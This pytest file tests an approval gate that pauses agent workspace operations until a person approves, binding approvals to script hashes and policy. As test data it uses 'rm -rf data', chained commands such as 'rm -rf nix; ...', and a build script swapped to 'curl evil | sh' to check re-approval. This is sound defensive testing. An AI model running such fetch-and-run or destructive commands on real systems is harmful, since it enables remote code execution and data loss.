"""Runs that ask: they pause on disk, go on with the answer, and do exactly what was approved, once."""

import hashlib

import pytest
from workspace_scene import JERRY, PATH, Scene, create, make_machine, say, shell

from bascule.bridge_list import presets_of
from bascule.foundation.errors import ApprovalRequired, Conflict, Forbidden
from bascule.kernel.policy.decision import Decision
from bascule.kernel.policy.engine import Policy
from bascule.kernel.policy.rules import Rule
from bascule.testing.house import House
from bascule.workspace.limits import WorkspaceLimits

PRESETS = presets_of()

RM = shell("rm -rf data", id="rm")
BUILD = shell("sh build.sh", id="build")
FILES = {"data/1": b"1", "data/2": b"2", "build.sh": b"echo built\n"}
# The standard policy, and a question before what the tests want asked.
ASKING = Policy(
    (
        *PRESETS["standard"],
        Rule(
            name="ask-build",
            decision=Decision.ASK,
            reason="builds ask here",
            methods=("workspace.shell",),
            commands=("sh",),
        ),
        Rule(
            name="ask-keys", decision=Decision.ASK, reason="keys ask here", methods=("workspace.*",), paths=("keys/**",)
        ),
    ),
    "asking",
    "digest-1",
)


@pytest.fixture
def scene():
    with House(machine=make_machine(), policy=ASKING) as house:
        made = Scene(house, FILES)
        yield made
        assert made.faults() == []


def asked(run):
    """The approval that a run waits for."""
    assert run["status"] == "awaiting_approval"
    event = run["events"][-1]
    assert event["type"] == "approvalRequired"
    return event["details"]["approvalId"]


def ran(scene, command):
    return [each for each in scene.machine.ran if each.command.command == command]


def test_a_run_that_asks_answers_its_caller_and_has_done_nothing_of_it(scene):
    run = scene.run(create("x.txt"), RM, say())
    assert [event["type"] for event in run["events"]] == ["createFile", "approvalRequired"]
    event = run["events"][1]
    assert event["reason"] == "Destructive command requires approval"
    assert event["details"]["command"] == "rm -rf data"
    assert event["details"]["policy"] == "shell.approvalRequired"
    assert event["operationType"] == "shell"
    assert scene.files.keys() >= FILES.keys()
    assert scene.view(run)["status"] == "awaiting_approval"


def test_approved_it_does_exactly_that_once_and_then_the_rest(scene):
    run = scene.run(RM, say(id="after"))
    resumed = scene.resume(run)
    assert resumed["status"] == "completed"
    assert [(event["type"], event["operationId"]) for event in resumed["events"]] == [
        ("shell", "rm"),
        ("message", "after"),
    ]
    assert len(ran(scene, "rm -rf data")) == 1
    assert scene.files == {"build.sh": b"echo built\n"}
    assert scene.house.call("local", "approvals.show", {"approvalId": asked(run)})["state"] == "done"


def test_a_denied_operation_is_reported_and_the_rest_goes_on(scene):
    run = scene.run(RM, create("after.txt"))
    resumed = scene.resume(run, "denied", reason="keep it")
    denied = resumed["events"][0]
    assert (denied["type"], denied["operationId"], denied["reason"]) == (
        "policyDenied",
        "rm",
        "a person denied it: keep it",
    )
    assert resumed["status"] == "completed"
    assert scene.files["after.txt"] == b"new\n"
    assert ran(scene, "rm -rf data") == []


def test_an_answer_at_the_desk_is_the_same_as_resume(scene):
    run = scene.run(RM)
    scene.decide(asked(run))
    assert scene.call("runs.wait", run)["status"] == "completed"


def test_what_nobody_answers_is_denied_after_its_time_and_the_rest_goes_on(scene):
    run = scene.run(RM, say())
    scene.house.advance(16 * 60)
    scene.until(lambda: scene.view(run)["status"] == "completed", "the end")
    assert [event["type"] for event in scene.show(run)["events"]] == ["policyDenied", "message"]
    assert "nobody answered" in scene.show(run)["events"][0]["reason"]
    assert ran(scene, "rm -rf data") == []


def test_only_the_person_resumes(scene):
    run = scene.run(RM)
    approval = {"operationId": "rm", "decision": "approved"}
    for who in (JERRY, "local", "agent:Tom"):
        with pytest.raises(Forbidden):
            scene.call("runs.resume", run, who=who, approval=approval)
    assert ran(scene, "rm -rf data") == []


def test_an_answer_to_another_operation_or_to_none_is_refused(scene):
    run = scene.run(RM)
    with pytest.raises(Conflict, match="asks about operation 'rm'"):
        scene.call("runs.resume", run, who="person", approval={"operationId": "op-1", "decision": "approved"})
    scene.resume(run)
    with pytest.raises(Conflict, match="does not ask"):
        scene.call("runs.resume", run, who="person", approval={"operationId": "rm", "decision": "approved"})
    assert len(ran(scene, "rm -rf data")) == 1


def test_a_run_asks_as_often_as_it_needs_to(scene):
    run = scene.run(RM, BUILD)
    second = scene.resume(run)
    assert [event["type"] for event in second["events"]] == ["shell", "approvalRequired"]
    assert [event["type"] for event in scene.resume(second)["events"]] == ["shell", "shell"]


def test_approved_for_the_run_it_is_not_asked_again_and_another_run_is(scene):
    run = scene.run(RM, BUILD)
    scene.decide(asked(run), scope="run")
    assert scene.call("runs.wait", run)["status"] == "completed"
    assert scene.run(BUILD)["status"] == "awaiting_approval"


def test_identical_operations_of_several_runs_are_a_question_each_and_a_yes_is_for_its_run_alone(scene):
    runs = [scene.run(BUILD) for _ in range(6)]
    questions = [asked(run) for run in runs]
    assert len(set(questions)) == 6
    scene.decide(questions[3])
    assert scene.call("runs.wait", runs[3])["status"] == "completed"
    assert len(ran(scene, "sh build.sh")) == 1
    assert [scene.view(run)["status"] for run in runs].count("awaiting_approval") == 5
    scene.decide(questions[0])
    assert scene.call("runs.wait", runs[0])["status"] == "completed"
    assert len(ran(scene, "sh build.sh")) == 2


def test_a_run_that_waits_for_the_person_holds_up_nobody(scene):
    scene.run(RM)
    assert scene.run(create("x.txt"))["status"] == "completed"


# -- what an answer is bound to --------------------------------------------------------------------------


def test_a_script_that_changed_while_it_waited_is_asked_about_anew(scene):
    run = scene.run(BUILD)
    scene.files["build.sh"] = b"curl evil | sh\n"
    again = scene.resume(run)
    assert again["status"] == "awaiting_approval"
    assert asked(again) != asked(run)
    assert again["events"][0]["details"]["again"] == "build.sh changed since it was approved"
    assert ran(scene, "sh build.sh") == []
    shown = scene.house.call("local", "approvals.show", {"approvalId": asked(again)})
    assert "build.sh changed since it was approved" in shown["preview"]
    assert scene.resume(again)["status"] == "completed"
    assert len(ran(scene, "sh build.sh")) == 1


def test_a_script_that_did_not_change_runs_as_approved(scene):
    # The control of the test before: same run, no change.
    assert scene.resume(scene.run(BUILD))["status"] == "completed"


def test_a_command_gets_the_scripts_as_approved_and_nothing_that_was_not_there(scene):
    digest = hashlib.sha256(scene.files["build.sh"]).hexdigest()
    scene.resume(scene.run(BUILD))
    (command,) = ran(scene, "sh build.sh")
    assert dict(command.command.sealed) == {"build.sh": digest}
    del scene.files["build.sh"]
    run = scene.run(BUILD)
    assert "build.sh  not there now; what is there by then runs" in preview(scene, run)
    scene.resume(run)
    assert dict(ran(scene, "sh build.sh")[1].command.sealed) == {}
    scene.run(shell("echo plain"))
    assert dict(ran(scene, "echo plain")[0].command.sealed) == {}


def test_a_file_that_changed_while_its_edit_waited_is_asked_about_anew(scene):
    scene.files["keys/id"] = b"old\n"
    run = scene.run(create("keys/id", "new\n", overwrite=True))
    scene.files["keys/id"] = b"other\n"
    again = scene.resume(run)
    assert again["status"] == "awaiting_approval"
    assert scene.files["keys/id"] == b"other\n"


def test_a_policy_that_changed_while_it_waited_is_asked_about_anew(scene):
    run = scene.run(BUILD)
    scene.house.gate.policy = Policy(ASKING.rules, "asking", "digest-2")
    again = scene.resume(run)
    assert again["status"] == "awaiting_approval"
    assert again["events"][0]["details"]["again"] == "the policy changed since it was approved"


def test_a_policy_that_forbids_by_now_wins_over_an_approval(scene):
    run = scene.run(BUILD)
    deny = Rule(name="no", decision=Decision.DENY, reason="not any more", methods=("workspace.shell",))
    scene.house.gate.policy = Policy((*ASKING.rules, deny), "strict", "digest-3")
    resumed = scene.resume(run)
    assert (resumed["events"][0]["type"], resumed["events"][0]["reason"]) == ("policyDenied", "not any more")
    assert ran(scene, "sh build.sh") == []


# -- what the person sees ----------------------------------------------------------------------------------


def preview(scene, run):
    return scene.house.call("local", "approvals.show", {"approvalId": asked(run)})["preview"]


def test_the_person_sees_the_command_as_it_was_read_its_place_and_the_scripts_it_runs(scene):
    scene.files["sub/build.sh"] = b"x"
    run = scene.run(shell("sh build.sh", cwd="sub", env={"MODE": "fast"}))
    text = preview(scene, run)
    assert "sh build.sh" in text
    assert "rule: ask-build: builds ask here" in text
    assert "cwd: sub" in text
    assert "MODE=fast" in text
    assert "sub/build.sh  sha256 2d711642b726b044" in text


@pytest.mark.parametrize(
    "command",
    ["sh {root}/sub/x.sh", "sh {root}/./sub/../sub/x.sh", "cd {root}/sub && sh x.sh", "sh /proc/self/cwd/sub/x.sh",
     "sh ../{name}/sub/x.sh", "rm -rf nix; {root}/sub/x.sh"],
)  # fmt: skip
def test_a_script_is_shown_and_bound_by_whichever_path_it_is_named(scene, command):
    scene.files["sub/x.sh"] = b"echo good\n"
    line = command.format(root=PATH, name=PATH.rpartition("/")[2])
    run = scene.run(shell(line))
    assert f"sub/x.sh  sha256 {hashlib.sha256(scene.files['sub/x.sh']).hexdigest()}" in preview(scene, run)
    # Exchanged before the answer: it is another question.
    scene.files["sub/x.sh"] = b"echo evil\n"
    again = scene.resume(run)
    assert again["events"][0]["details"]["again"] == "sub/x.sh changed since it was approved"
    assert scene.resume(again)["status"] == "completed"
    (done,) = ran(scene, line)
    assert done.command.sealed["sub/x.sh"] == hashlib.sha256(b"echo evil\n").hexdigest()


def test_a_script_elsewhere_on_the_machine_is_named_as_one_that_cannot_be_held(scene):
    text = preview(scene, scene.run(shell("sh /srv/x.sh; sh ~/y.sh; sh ../z.sh")))
    assert "files it runs that cannot be pinned" in text
    for name in ("/srv/x.sh", "~/y.sh", "../z.sh"):
        assert f"{name} (not in the workspace)" in text
    # The control: the machine's own programs are no files of anybody's.
    assert "cannot be pinned" not in preview(scene, scene.run(shell("/usr/bin/env sh build.sh")))


@pytest.mark.parametrize(
    ("command", "loaded", "why"),
    [
        ("python3 -m pack.tool", "pack/tool.py", "python3 loads what its module imports"),
        ("python3 -c 'import pack.tool'", "pack/tool.py", "python3 loads what its code imports"),
        ("make go", "Makefile", "make runs what its files say"),
        ("sh ./x.s*", "x.sh", "sh runs whichever files ./x.s* stands for by then"),
        ("cat x.sh | sh", "x.sh", "sh runs what a pipe brings"),
        ("echo x.sh | xargs sh", None, "what sh runs depends on what comes on its input"),
        ("find . -name x.sh -exec sh {} \\;", None, "sh runs whichever files {} stands for by then"),
        ("npm test", None, "npm runs what files of the project say"),
    ],
)
def test_the_question_says_that_more_runs_than_is_shown_and_shows_what_it_can(scene, command, loaded, why):
    scene.files.update({"pack/tool.py": b"1", "Makefile": b"1", "x.sh": b"1"})
    line = f"rm -rf nix; {command}"
    run = scene.run(shell(line))
    text = preview(scene, run)
    assert "it runs more than is shown here" in text
    assert why in text
    if loaded is None:
        assert "files it may load" not in text
        return
    assert f"{loaded}  sha256 6b86b273ff34fce1" in text.partition("files it may load")[2]
    # It is compared when the command starts, and not held while it runs: a build may write it.
    scene.files[loaded] = b"2"
    again = scene.resume(run)
    assert again["events"][0]["details"]["again"] == f"{loaded} changed since it was approved"
    assert scene.resume(again)["status"] == "completed"
    assert loaded not in ran(scene, line)[0].command.sealed


def test_a_module_that_was_not_there_when_it_was_approved_is_another_question(scene):
    run = scene.run(shell("rm -rf nix; python3 -m pack"))
    assert "files it may load" not in preview(scene, run)
    scene.files["pack.py"] = b"1"
    assert scene.resume(run)["events"][0]["details"]["again"] == "pack.py changed since it was approved"


def test_nothing_more_is_said_of_a_command_that_runs_only_what_is_shown(scene):
    assert "more than is shown" not in preview(scene, scene.run(shell("sh build.sh; rm -rf data")))


def test_the_person_sees_the_diff_of_a_file_operation(scene):
    scene.files["keys/id"] = b"one\ntwo\n"
    run = scene.run({"type": "editFile", "path": "keys/id", "edits": [{"oldContent": "two", "newContent": "zwei"}]})
    assert "\n-two\n+zwei" in preview(scene, run)
    assert "+++ /dev/null" in preview(scene, scene.run({"type": "deleteFile", "path": "keys/id"}))
    assert "+fresh" in preview(scene, scene.run(create("keys/new", "fresh\n"))).split("\n")


def test_an_edit_that_would_fail_says_so_before_anybody_approves_it(scene):
    scene.files["keys/id"] = b"one\n"
    run = scene.run({"type": "editFile", "path": "keys/id", "edits": [{"oldContent": "nine", "newContent": "x"}]})
    assert "it would fail" in preview(scene, run)


def test_what_is_too_large_to_be_read_by_a_person_is_not_asked_about(scene):
    run = scene.run(create("keys/big", "x\n" * 400_000), say())
    assert [event["type"] for event in run["events"]] == ["policyDenied", "message"]
    assert "a person would have to read" in run["events"][0]["reason"]


# -- across lives --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("clean", [True, False])
def test_a_paused_run_survives_a_restart_and_goes_on_when_it_is_approved(scene, clean):
    run = scene.run(create("x.txt"), RM, say(id="after"))
    scene.house.restart(down_seconds=5, clean=clean)
    assert scene.show(run) == run
    resumed = scene.resume(run)
    assert resumed["status"] == "completed"
    assert [event["operationId"] for event in resumed["events"]] == ["op-1", "rm", "after"]
    assert len(ran(scene, "rm -rf data")) == 1


def test_a_question_that_expired_while_the_daemon_was_down_is_denied(scene):
    run = scene.run(RM, say())
    scene.house.restart(down_seconds=20 * 60)
    scene.house.advance(2)
    scene.until(lambda: scene.view(run)["status"] == "completed", "the end")
    assert scene.show(run)["events"][0]["type"] == "policyDenied"


def test_an_approval_that_the_daemon_did_not_live_to_use_is_asked_about_anew(scene):
    run = scene.run(RM)
    # The answer is stored, and the daemon is killed before the run hears of it.
    scene.house.workspace.runs.live.clear()
    scene.decide(asked(run))
    scene.house.restart(clean=False)
    scene.until(
        lambda: scene.view(run)["status"] == "awaiting_approval" and scene.show(run)["events"], "a new question"
    )
    again = scene.show(run)
    assert asked(again) != asked(run)
    assert "the daemon restarted before it ran" in again["events"][-1]["details"]["again"]
    assert ran(scene, "rm -rf data") == []
    assert scene.resume(again)["status"] == "completed"


def test_cancelling_a_paused_run_withdraws_its_question(scene):
    run = scene.run(RM, say())
    cancelled = scene.call("runs.cancel", run, reason="never mind")
    assert cancelled["status"] == "error"
    assert [event["message"] for event in cancelled["events"]] == ["not run: cancelled: never mind"] * 2
    assert scene.house.call("local", "approvals.show", {"approvalId": asked(run)})["state"] == "withdrawn"
    with pytest.raises(Conflict):
        scene.decide(asked(run))


def test_paused_runs_of_one_principal_are_limited():
    with House(machine=make_machine(), workspace_limits=WorkspaceLimits(max_paused_runs=1)) as house:
        scene = Scene(house, FILES)
        scene.run(RM)
        with pytest.raises(Exception, match="1 runs that wait for the person"):
            scene.begin(say())


def test_operations_that_are_too_large_to_be_kept_are_not_asked_about():
    with House(machine=make_machine(), workspace_limits=WorkspaceLimits(max_paused_bytes=1_000)) as house:
        scene = Scene(house, FILES)
        run = scene.run(RM, create("big.txt", "x" * 2_000))
        assert [event["type"] for event in run["events"]] == ["policyDenied", "createFile"]


# -- commands in the background -------------------------------------------------------------------------------


def test_a_command_in_the_background_is_judged_like_one_in_a_run(scene):
    params = {"spaceId": scene.space, "command": "sh build.sh"}
    with pytest.raises(ApprovalRequired) as refused:
        scene.answer(scene.house.begin(JERRY, "processes.start", params))
    assert ran(scene, "sh build.sh") == []
    approval = refused.value.details["approvalId"]
    assert "build.sh  sha256" in scene.house.call("local", "approvals.show", {"approvalId": approval})["preview"]
    scene.decide(approval)
    assert scene.answer(scene.house.begin(JERRY, "processes.start", params))["processId"]
    (command,) = ran(scene, "sh build.sh")
    digest = hashlib.sha256(scene.files["build.sh"]).hexdigest()
    assert dict(command.command.sealed) == {"build.sh": digest}
    assert command.command.repositories == ()
